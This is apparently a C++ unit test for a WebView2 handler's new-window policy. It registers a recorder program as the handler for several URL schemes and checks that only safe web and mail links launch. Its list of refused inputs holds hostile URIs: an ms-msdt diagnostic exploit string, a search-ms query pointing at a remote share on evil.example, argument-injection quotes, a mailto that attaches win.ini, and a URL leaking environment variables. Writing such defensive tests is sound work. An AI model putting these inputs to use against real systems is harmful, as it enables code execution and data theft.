// The new-window policy against the real shell: ShellExecuteW resolves each URI through the
// registry to launch_recorder.exe, registered here as the handler of the web, mail and two
// dangerous protocol schemes. Every process the test starts stays in a job object, so a launch
// that must not happen is seen deterministically in the job's process count.
//
// Wine resolves URL protocols through HKEY_CLASSES_ROOT as stored under HKLM\Software\Classes
// and ignores per-user HKCU\Software\Classes entries, which Windows would merge; Windows also
// routes http and https through the user's UserChoice. The handlers are therefore written to
// HKEY_CLASSES_ROOT and restored afterwards: run this test in a private Wine prefix, not as a
// user of a real Windows installation.
#include <gtest/gtest.h>
#include <windows.h>
// The shell header needs the types above.
#include <shellapi.h>

#include <fstream>
#include <functional>
#include <memory>
#include <optional>
#include <string>
#include <utility>
#include <vector>

#include "tests/webview2/fake_webview2.h"
#include "webview2/com_handler.h"

namespace webview::detail {
namespace {

using testing::fake_new_window_args;

std::wstring folder_of_this_program() {
  std::wstring path(MAX_PATH, L'\0');
  const DWORD length = GetModuleFileNameW(nullptr, path.data(), MAX_PATH);
  path.resize(length);
  return path.substr(0, path.find_last_of(L"\\/") + 1);
}

std::optional<std::wstring> read_default_value(const std::wstring& key_path) {
  wchar_t value[1024];
  DWORD bytes = sizeof value;
  if (RegGetValueW(HKEY_CLASSES_ROOT, key_path.c_str(), nullptr, RRF_RT_REG_SZ, nullptr, value,
                   &bytes) != ERROR_SUCCESS) {
    return std::nullopt;
  }
  return std::wstring(value);
}

bool write_value(const std::wstring& key_path, const wchar_t* name, const std::wstring& value) {
  HKEY key = nullptr;
  if (RegCreateKeyExW(HKEY_CLASSES_ROOT, key_path.c_str(), 0, nullptr, 0, KEY_SET_VALUE, nullptr,
                      &key, nullptr) != ERROR_SUCCESS) {
    return false;
  }
  const LONG status =
      RegSetValueExW(key, name, 0, REG_SZ, reinterpret_cast<const BYTE*>(value.c_str()),
                     static_cast<DWORD>((value.size() + 1) * sizeof(wchar_t)));
  RegCloseKey(key);
  return status == ERROR_SUCCESS;
}

// Makes `command` the open command of a URL scheme for the owner's life.
class registered_scheme {
 public:
  registered_scheme(std::wstring scheme, const std::wstring& command)
      : scheme(std::move(scheme)),
        existed(read_default_value(this->scheme + L"\\shell\\open\\command")) {
    registered = write_value(this->scheme, L"URL Protocol", L"") &&
                 write_value(this->scheme + L"\\shell\\open\\command", nullptr, command);
  }
  ~registered_scheme() {
    if (existed) {
      write_value(scheme + L"\\shell\\open\\command", nullptr, *existed);
    } else {
      RegDeleteTreeW(HKEY_CLASSES_ROOT, scheme.c_str());
    }
  }
  registered_scheme(const registered_scheme&) = delete;
  registered_scheme& operator=(const registered_scheme&) = delete;

  bool registered = false;

 private:
  std::wstring scheme;
  std::optional<std::wstring> existed;
};

class com_handler_launch_test : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    job = CreateJobObjectW(nullptr, nullptr);
    job_assigned = job != nullptr && AssignProcessToJobObject(job, GetCurrentProcess());
  }
  static void TearDownTestSuite() { CloseHandle(job); }

  void SetUp() override {
    ASSERT_TRUE(job_assigned);
    const std::wstring folder = folder_of_this_program();
    record_path = folder + L"launch_record.txt";
    DeleteFileW(record_path.c_str());
    const std::wstring command =
        L"\"" + folder + L"launch_recorder.exe\" \"" + record_path + L"\" \"%1\"";
    for (const wchar_t* scheme : {L"http", L"https", L"mailto", L"ms-msdt", L"search-ms"}) {
      schemes.emplace_back(std::make_unique<registered_scheme>(scheme, command));
      ASSERT_TRUE(schemes.back()->registered);
    }
    handler = new webview2_com_handler(
        nullptr, [](std::string, std::wstring) {},
        [](HRESULT, ICoreWebView2Controller*, ICoreWebView2*) {},
        L"https://app.quendari.art/?shell=app",
        [this](std::function<void()> task) { posted.push_back(std::move(task)); });
  }
  void TearDown() override {
    if (handler != nullptr) handler->Release();
    wait_for_launched_processes();
    end_leftover_processes();
    schemes.clear();
    DeleteFileW(record_path.c_str());
  }

  static JOBOBJECT_BASIC_ACCOUNTING_INFORMATION job_accounting() {
    JOBOBJECT_BASIC_ACCOUNTING_INFORMATION info{};
    QueryInformationJobObject(job, JobObjectBasicAccountingInformation, &info, sizeof info,
                              nullptr);
    return info;
  }
  static DWORD processes_started() { return job_accounting().TotalProcesses; }

  // Launched processes are waited for, not timed: the bound only keeps a hang from blocking.
  static void wait_for_launched_processes() {
    for (int i = 0; i < 200 && job_accounting().ActiveProcesses > 1; ++i) Sleep(50);
  }

  // After a failure a launched program may stay open; it was started by this test, so it is
  // ended here by its id rather than left holding the test's output open.
  static void end_leftover_processes() {
    struct {
      JOBOBJECT_BASIC_PROCESS_ID_LIST list;
      ULONG_PTR more_ids[63];
    } ids{};
    ids.list.NumberOfAssignedProcesses = 64;
    if (!QueryInformationJobObject(job, JobObjectBasicProcessIdList, &ids, sizeof ids, nullptr)) {
      return;
    }
    for (DWORD i = 0; i < ids.list.NumberOfProcessIdsInList; ++i) {
      const auto id = static_cast<DWORD>(ids.list.ProcessIdList[i]);
      if (id == GetCurrentProcessId()) continue;
      if (const HANDLE process = OpenProcess(PROCESS_TERMINATE, FALSE, id)) {
        TerminateProcess(process, 1);
        CloseHandle(process);
      }
    }
  }

  std::vector<std::string> recorded_uris() {
    wait_for_launched_processes();
    std::ifstream file(record_path.c_str());
    std::vector<std::string> lines;
    for (std::string line; std::getline(file, line);) lines.push_back(line);
    return lines;
  }

  void request_new_window(const std::wstring& uri, BOOL user_initiated = TRUE) {
    fake_new_window_args args;
    args.uri = uri;
    args.user_initiated = user_initiated;
    const DWORD before = processes_started();
    EXPECT_EQ(
        static_cast<ICoreWebView2NewWindowRequestedEventHandler*>(handler)->Invoke(nullptr, &args),
        S_OK);
    ASSERT_EQ(args.handled_written.size(), 1u);
    EXPECT_EQ(args.handled_written[0], TRUE);
    EXPECT_EQ(processes_started(), before) << "launched inside the event";
    for (auto& task : std::exchange(posted, {})) task();
    // One launch at a time keeps the record in request order.
    wait_for_launched_processes();
  }

  static inline HANDLE job = nullptr;
  static inline bool job_assigned = false;
  std::wstring record_path;
  std::vector<std::unique_ptr<registered_scheme>> schemes;
  webview2_com_handler* handler = nullptr;
  std::vector<std::function<void()>> posted;
};

TEST_F(com_handler_launch_test, web_and_mail_links_open_unchanged_in_the_registered_program) {
  const DWORD before = processes_started();
  request_new_window(L"https://example.com/a?b=c&d=%20e#f");
  request_new_window(L"HTTP://example.com/upper-case-scheme");
  request_new_window(L"mailto:someone@example.com?subject=Hi");
  // The shell would expand the references (Wine does) and hand the user's name and profile path
  // to the page's server.
  request_new_window(L"https://evil.example/?u=%USERNAME%&p=%USERPROFILE%");
  EXPECT_EQ(processes_started(), before + 4);
  const std::vector<std::string> expected = {
      "https://example.com/a?b=c&d=%20e#f", "HTTP://example.com/upper-case-scheme",
      "mailto:someone@example.com?subject=Hi",
      "https://evil.example/?u=%25USERNAME%25&p=%25USERPROFILE%25"};
  EXPECT_EQ(recorded_uris(), expected);
}

TEST_F(com_handler_launch_test, other_uris_launch_nothing) {
  // The shell would run each of these: the two schemes are registered to the recorder above,
  // and the paths name the recorder itself.
  const std::wstring recorder = folder_of_this_program() + L"launch_recorder.exe";
  std::wstring recorder_url = L"file:///" + recorder;
  for (auto& c : recorder_url) c = c == L'\\' ? L'/' : c;
  ShellExecuteW(nullptr, L"open", L"ms-msdt:/id probe", nullptr, nullptr, SW_SHOWNORMAL);
  wait_for_launched_processes();
  ASSERT_EQ(recorded_uris(), std::vector<std::string>{"ms-msdt:/id probe"})
      << "the registered scheme does not launch, so this test proves nothing";

  const std::wstring refused[] = {
      L"ms-msdt:/id PCWDiagnostic /skip force",
      L"search-ms:query=invoice&crumb=location:\\\\evil.example\\share",
      recorder,
      recorder_url,
      L"javascript:alert(1)",
      L"https://example.com/\" --argument \"injected",
      L"https://example.com/ two words",
      L"https://example.com/\uFF02 --argument \uFF02injected",
      L"https://example.com/" + std::wstring(2070, L'a'),
      L"mailto:a@example.com?attach=C:\\Windows\\win.ini",
      L"",
  };
  const DWORD before = processes_started();
  for (const auto& uri : refused) request_new_window(uri);
  request_new_window(L"https://example.com/scripted", FALSE);
  EXPECT_EQ(processes_started(), before);
  EXPECT_EQ(recorded_uris().size(), 1u);
}

}  // namespace
}  // namespace webview::detail
